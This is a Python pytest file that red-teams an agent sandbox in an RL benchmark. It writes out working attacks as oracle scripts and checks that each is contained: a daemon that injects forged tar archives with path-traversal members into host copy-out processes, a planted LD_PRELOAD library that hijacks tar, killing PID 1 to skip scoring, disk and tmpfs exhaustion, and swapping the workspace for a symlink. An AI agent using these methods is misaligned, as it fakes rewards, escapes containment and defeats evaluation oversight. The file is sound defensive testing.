"""Red-team tests of the agent sandbox, through bench's real path: ``run_rollouts``
with the ``oracle`` harness on a temporary copy of a built-in task whose ``solution/solve.sh``
is the attack (run as root in the agent's podman sandbox), then the runner's kill, host-side
copy-out and sandboxed verification. Each asserts containment: no host write, the true reward
(or a scored failure), never an infra-error the agent could use to skip being scored.
"""

from __future__ import annotations

import asyncio
import os
import shutil
import tempfile
import time
import uuid
from pathlib import Path
from typing import Any

import pytest
from clawrl.bench import (
    RolloutResult,
    RolloutRunner,
    RolloutSpec,
    RolloutStatus,
    Task,
    builtin_suite_dir,
    load_task,
    run_rollouts,
)
from clawrl.bench.harness import get_harness

pytestmark = [
    pytest.mark.podman,
    pytest.mark.slow,
]


def attack_task(tmp: Path, script: str, *, base: str = "fix_median") -> Task:
    """A copy of built-in task ``base`` whose oracle is ``script`` (bash, in the workspace)."""
    root = tmp / base
    shutil.copytree(builtin_suite_dir() / base, root)
    (root / "solution" / "solve.sh").write_text("#!/bin/bash\n" + script)
    return load_task(root)


def rollout(task: Task, **kwargs: Any) -> RolloutResult:
    (result,) = asyncio.run(run_rollouts([task], ["oracle"], **kwargs))
    return result


def _find(name: str, *roots: Path) -> list[Path]:
    hits: list[Path] = []
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            hits += [Path(dirpath) / n for n in (*dirnames, *filenames) if name in n]
    return hits


def test_copy_out_forgery_writes_nothing_on_the_host(tmp_path: Path) -> None:
    """The agent leaves the workspace unsolved and a daemon that, for every process that
    appears later (the host's copy-out, a log read), stops it and writes into its stdout a tar
    archive holding a *solved* ``stats.py`` plus ``../`` and absolute members — the attack
    that wrote host files and faked rewards through ``podman exec tar``.

    Contained by the runner's ``kill_all`` (the daemon is dead before anything is read) and by
    the host-side copy-out (nothing the sandbox writes is parsed): the true reward 0, no host
    file.
    """
    marker = f"clawrl-escape-{uuid.uuid4().hex}"
    script = f"""
python3 - <<'EOF' </dev/null >/dev/null 2>&1 &
import io, os, signal, tarfile, time
os.setsid()
solved = open("stats.py").read().replace(
    "    return values[len(values) // 2]\\n",
    "    xs = sorted(values)\\n    mid = len(xs) // 2\\n"
    "    return xs[mid] if len(xs) % 2 else (xs[mid - 1] + xs[mid]) / 2\\n",
).encode()
def archive():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, data in (("./stats.py", solved), ("../../../{marker}", b"owned"),
                           ("/tmp/{marker}", b"owned"), ("../{marker}", b"owned")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()
data, seen = archive(), {{os.getpid()}}
seen |= {{int(p) for p in os.listdir("/proc") if p.isdigit()}}
end = time.time() + 600
while time.time() < end:
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) not in seen:
            try:  # a process that runc is still starting cannot be opened yet: retry it
                os.kill(int(p), signal.SIGSTOP)
                with open(f"/proc/{{p}}/fd/1", "wb") as out:
                    out.write(data)
                seen.add(int(p))
            except ProcessLookupError:
                seen.add(int(p))
            except OSError:
                pass
            finally:
                try:
                    os.kill(int(p), signal.SIGCONT)
                except OSError:
                    pass
    time.sleep(0.0005)
EOF
sleep 1
exit 0
"""
    r = rollout(attack_task(tmp_path, script))
    assert r.status is RolloutStatus.OK, (r.status, r.reason)
    assert r.reward == 0.0, r.subscores  # the forged, solved stats.py never reached the verifier
    tmp_root = Path(tempfile.gettempdir())
    assert _find(marker, tmp_root, tmp_path) == []


_PRELOAD_C = r"""
#include <fcntl.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void forge(void) {
    char exe[256] = {0};
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) return;
    const char *base = strrchr(exe, '/');
    if (!base || strcmp(base + 1, "tar") != 0) return;
    int fd = open("/var/tmp/forged.tar", O_RDONLY);
    if (fd < 0) return;
    char buf[65536];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0) write(1, buf, n);
    _exit(0);
}
"""


@pytest.mark.skipif(shutil.which("gcc") is None, reason="the attack compiles a preload library")
def test_planted_preload_cannot_forge_the_copy_out(tmp_path: Path) -> None:
    """A task whose workspace is ``/app`` runs with a writable root, so the agent (root) can
    write ``/etc/ld.so.preload``. It plants a library that turns every later ``tar`` in the
    sandbox into a printer of its own archive: a *solved* ``stats.py``. No race: with the old
    copy-out (``podman exec tar -c`` in the sandbox, parsed on the host) the verifier got the
    forged file and the reward was 1.0. Now no program of the sandbox runs for the copy-out:
    the true workspace is read from the host and the reward is 0. Revert tried: the old
    in-sandbox ``tar -c`` copy-out."""
    script = f"""
cat > /var/tmp/forge.c <<'END_C'
{_PRELOAD_C}
END_C
gcc -shared -fPIC -o /var/tmp/forge.so /var/tmp/forge.c || exit 3
python3 - <<'END_PY'
import io, tarfile
solved = open("stats.py").read().replace(
    "    return values[len(values) // 2]\\n",
    "    xs = sorted(values)\\n    mid = len(xs) // 2\\n"
    "    return xs[mid] if len(xs) % 2 else (xs[mid - 1] + xs[mid]) / 2\\n",
).encode()
assert solved != open("stats.py", "rb").read()
with tarfile.open("/var/tmp/forged.tar", "w") as tar:
    info = tarfile.TarInfo("./stats.py")
    info.size = len(solved)
    tar.addfile(info, io.BytesIO(solved))
END_PY
echo /var/tmp/forge.so > /etc/ld.so.preload
exit 0
"""
    task = attack_task(tmp_path, script)
    env = {**task.verifier.env, "CLAWRL_WORKSPACE": "/app"}
    task = task.model_copy(
        update={"workspace_path": "/app", "verifier": task.verifier.model_copy(update={"env": env})}
    )
    spec = RolloutSpec(task=task, harness=get_harness("oracle"), rollout_id="r", group_id="g")
    assert RolloutRunner().sandbox_spec(spec, tmp_path).read_only_root is False  # the premise
    r = rollout(task)
    assert r.status is RolloutStatus.OK, (r.status, r.reason)
    assert r.reward == 0.0, r.subscores


def test_sparse_file_fails_the_rollout_fast_and_is_scored(tmp_path: Path) -> None:
    """A 4 GiB sparse file in the workspace: before, 66 s and 2 GiB of host RSS, then an
    infra-error left out of the scores (the agent chooses when it is scored). Now the copy-out
    bound refuses it at once and the rollout is a scored failure. Revert tried: runner
    without the ``SandboxCopyLimitError`` branch — the error escapes as a sandbox error and the
    rollout becomes ``infra-error``, so this test fails."""
    task = attack_task(tmp_path, "truncate -s 4G big.bin\n")
    t0 = time.monotonic()
    r = rollout(task)
    assert r.status is RolloutStatus.HARNESS_ERROR, (r.status, r.reason)
    assert "copy-out refused" in r.reason and "max_bytes" in r.reason
    assert r.reward == 0.0 and r.attempts == 1
    assert time.monotonic() - t0 < 60


def test_many_files_fail_the_rollout_and_are_scored(tmp_path: Path) -> None:
    """More entries than the copy-out allows (100,000): a scored failure, not an 800 s copy."""
    task = attack_task(tmp_path, "mkdir m && cd m && seq 1 110000 | xargs touch\n")
    r = rollout(task)
    assert r.status is RolloutStatus.HARNESS_ERROR, (r.status, r.reason)
    assert "max_files" in r.reason and r.reward == 0.0


def test_agent_cannot_end_its_sandbox_to_skip_scoring(tmp_path: Path) -> None:
    """Signals to PID 1 from inside are dropped (PID 1 is the wall-clock sleep without
    handlers), so the sandbox outlives the attack and the rollout is scored. Revert to reason
    about: ``--init`` with ``sleep`` as its child — catatonit forwards TERM to the sleep, the
    container ends, and the rollout is an infra-error (excluded, retried)."""
    script = "for s in TERM INT HUP KILL; do kill -s $s 1; done; kill -9 -1; exit 0\n"
    r = rollout(attack_task(tmp_path, script))
    assert r.status is not RolloutStatus.INFRA_ERROR, r.reason
    assert r.reward == 0.0 and r.attempts == 1


def test_filling_run_and_var_tmp_does_not_wedge_the_sandbox(tmp_path: Path) -> None:
    """Unsized tmpfs used to take up to the memory limit and wedge the sandbox."""
    script = (
        "dd if=/dev/zero of=/run/fill bs=1M count=200 2>/dev/null; "
        "dd if=/dev/zero of=/var/tmp/fill bs=1M count=2000 2>/dev/null; "
        "dd if=/dev/zero of=/dev/shm/fill bs=1M count=200 2>/dev/null; "
        "echo x > /sys/fs/cgroup/fill 2>/dev/null; exit 0\n"
    )
    r = rollout(attack_task(tmp_path, script))
    assert r.status is RolloutStatus.OK, (r.status, r.reason)


def test_every_agent_sandbox_has_a_wall_clock() -> None:
    """A leaked sandbox (orchestrator SIGKILLed) ends by itself: its PID 1 is a sleep of the
    agent timeout + 300 s."""
    task = load_task(builtin_suite_dir() / "fix_median")
    runner = RolloutRunner()
    spec = RolloutSpec(task=task, harness=get_harness("oracle"), rollout_id="r", group_id="g")
    sb_spec = runner.sandbox_spec(spec, Path("/nonexistent"))
    assert sb_spec.limits.wall_clock_s == task.timeouts.agent_s + 300


@pytest.mark.parametrize(
    "script",
    ["cd /; rm -rf /app; ln -s /tmp /app", "cd /; mv /app /gone"],
    ids=["symlink", "moved"],
)
def test_removing_the_workspace_is_a_scored_failure(tmp_path: Path, script: str) -> None:
    """With a writable root (workspace ``/app``) the agent can replace its workspace by a
    symlink or move it away. Before, the copy-out's ``SandboxFileNotFoundError`` escaped as
    an infra-error (retried, left out of the scores: the agent chose not to be scored). Revert tried: without the runner's ``FileNotFoundError`` branch ->
    ``infra-error`` with 2 attempts."""
    task = attack_task(tmp_path, script + "\nexit 0\n")
    env = {**task.verifier.env, "CLAWRL_WORKSPACE": "/app"}
    task = task.model_copy(
        update={"workspace_path": "/app", "verifier": task.verifier.model_copy(update={"env": env})}
    )
    r = rollout(task)
    assert r.status is RolloutStatus.HARNESS_ERROR, (r.status, r.reason)
    assert "workspace gone" in r.reason and r.reward == 0.0 and r.attempts == 1


def test_verify_sandbox_scores_a_removed_workspace(tmp_path: Path) -> None:
    """``verify_sandbox`` (public API, a live agent sandbox): a workspace the agent replaced
    by a symlink is a scored ``verifier-error``, not an infra-error (red team round 2).
    Revert tried: without the ``FileNotFoundError`` branch -> ``infra-error``."""
    from clawrl.bench import VerifierStatus, prepare_workspace, verify_sandbox
    from clawrl.sandbox import Limits, Sandbox, SandboxSpec

    task = load_task(builtin_suite_dir() / "fix_median")
    env = {**task.verifier.env, "CLAWRL_WORKSPACE": "/app"}
    task = task.model_copy(
        update={"workspace_path": "/app", "verifier": task.verifier.model_copy(update={"env": env})}
    )
    ws = prepare_workspace(task, tmp_path / "ws")

    async def go() -> Any:
        spec = SandboxSpec(files={"/app": ws}, read_only_root=False, limits=Limits(memory="256m"))
        async with await Sandbox.create(spec) as sb:
            await sb.exec("cd /; rm -rf /app && ln -s /tmp /app", timeout=20)
            return await verify_sandbox(task, sb)

    v = asyncio.run(go())
    assert v.status is VerifierStatus.ERROR and v.reward == 0.0, (v.status, v.reason)
    assert "gone" in v.reason
